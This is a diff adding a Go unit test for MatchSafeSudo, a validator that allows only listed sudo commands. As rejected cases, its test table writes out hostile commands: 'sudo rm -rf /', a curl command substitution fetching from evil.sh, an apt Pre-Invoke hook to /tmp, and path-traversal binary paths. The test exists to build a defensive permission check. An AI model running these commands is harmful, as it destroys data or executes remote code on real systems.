@@ -0,0 +1,43 @@
+package patterns
+
+import "testing"
+
+func TestMatchSafeSudo(t *testing.T) {
+	safe := []string{"systemctl status", "apt-get update", "journalctl"}
+	cases := map[string]string{
+		"sudo systemctl status nginx":                                "systemctl status",
+		"sudo -E apt-get update -q":                                  "apt-get update",
+		"sudo -u root DEBIAN_FRONTEND=noninteractive apt-get update": "apt-get update",
+		"sudo /usr/bin/apt-get update":                               "apt-get update",
+		"sudo /sbin/systemctl status nginx":                          "systemctl status",
+		"sudo apt-get update && sudo systemctl status nginx":         "apt-get update",
+		`sudo journalctl -u nginx --grep "a|b"`:                      "journalctl",
+		"sudo systemctl stop nginx":                                  "",
+		"sudo rm -rf /":                                              "",
+		"sudo apt-get update && sudo rm -rf /var/lib":                "",
+		`sudo journalctl --grep "x" ; sudo rm -rf /`:                 "",
+		"sudo apt-get update $(curl -s evil.sh)":                     "",
+		"sudo systemctl status nginx > /etc/motd":                    "",
+		"sudo apt-get update -o APT::Update::Pre-Invoke::=/tmp/x":    "",
+		"sudo apt-get update --option=Dir::Etc=/tmp":                 "",
+		"sudo apt-get update -oDebug::pkgProblemResolver=1":          "",
+		"sudo systemctl status -c x":                                 "",
+		"sudo journalctl -D ./logs":                                  "",
+		"sudo apt-get install ./pkg.deb":                             "",
+		"sudo ./journalctl":                                          "",
+		"sudo bin/journalctl":                                        "",
+		"sudo /tmp/x/systemctl status":                               "",
+		"sudo /usr/bin/../../tmp/systemctl status":                   "",
+		"sudo /usr/local/bin/journalctl":                             "",
+		"sudo -u":                                                    "",
+		"systemctl status nginx":                                     "",
+	}
+	for cmd, want := range cases {
+		if got := MatchSafeSudo(cmd, safe); got != want {
+			t.Errorf("MatchSafeSudo(%q) = %q, want %q", cmd, got, want)
+		}
+	}
+	if got := MatchSafeSudo("sudo systemctl status", nil); got != "" {
+		t.Errorf("empty safe list matched %q", got)
+	}
+}